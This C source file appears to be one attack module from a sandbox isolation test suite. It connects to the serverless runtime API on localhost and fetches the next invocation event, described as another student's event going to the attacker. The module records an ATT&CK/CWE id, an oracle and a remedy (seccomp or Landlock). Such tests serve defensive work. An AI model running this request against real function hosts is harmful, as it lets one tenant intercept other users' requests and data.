// SPDX-License-Identifier: MIT
/*
 * Goal:  the next request, before the worker has it.
 * Means: the control interface at the port that is documented, asked with four system calls. To
 *        remove the address from the environment hides nothing: it is the same in every function.
 */
#include "attacks/attack.h"

#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	static const char ask[] = "GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\n"
				  "Host: 127.0.0.1\r\n\r\n";
	char event[4096];
	ssize_t n;
	int api;

	attempting(b);
	api = dial(SOCK_STREAM, b->api);
	if (api < 0)
		return denied("connect");
	if (send(api, ask, sizeof(ask) - 1, MSG_NOSIGNAL) < 0)
		return denied("send");
	n = read(api, event, sizeof(event));
	if (n <= 0)
		return denied("read");
	loot(event, (size_t)n);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student's event goes to the attacker",
	.means = "GET .../invocation/next at the port that every function has",
	.oracle = "api:next",
	.quick = true,
	.id = "LAPI-01",
	.attack_id = "T1557, CWE-306",
	.remedy = "seccomp without socket, or Landlock without connect_tcp",
	.refs = (const char *const[]){ "AWS Lambda runtime API, Next invocation", NULL },
	.run = run,
};
